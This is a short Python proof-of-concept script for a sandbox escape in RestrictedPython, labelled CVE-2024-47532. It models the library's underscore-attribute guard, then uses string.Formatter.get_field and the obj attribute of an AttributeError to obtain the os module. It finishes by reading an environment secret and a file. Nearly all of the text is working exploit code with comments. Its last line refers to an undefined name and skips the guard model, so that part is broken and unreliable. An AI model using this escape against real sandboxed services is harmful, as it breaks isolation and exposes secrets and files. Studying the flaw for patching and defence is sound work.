# RestrictedPython, CVE-2024-47532: no program may name an attribute with an underscore. But a
# library that it may use names them for it, and the error that follows has the object.
import operator
import random
import string


# A model of the guard: every `x.name` of the program's becomes a call of this.

def guarded_getattr(thing, name):
    if name.startswith("_"):
        raise AttributeError(f'"{name}" is an invalid attribute name because it starts with "_"')
    if name in ("format", "format_map") and isinstance(thing, str):
        raise NotImplementedError("using the format() methods of `str` is not safe")
    return operator.attrgetter(name)(thing)


# The guest's half. It reads attributes by the guard only. `string` counted as harmless.

get = guarded_getattr

try:
    get(random, "_os")
except AttributeError as error:
    print("Refused:", error)

formatter = get(string, "Formatter")()
try:
    # The library's formatter splits the field at its dots and asks for each name, without a
    # guard. It gives texts, so an object would not come out of it; but the last name is none.
    get(formatter, "get_field")("0._os.nothing", (random,), {})
except AttributeError as error:
    # Since Python 3.10 such an error has the object that lacked the attribute. No underscore.
    os = get(error, "obj")

print(get(os, "environ")["MUSEUM_FLAG"])
print(os.read(os.open(outside["file"], os.O_RDONLY), 100).decode())
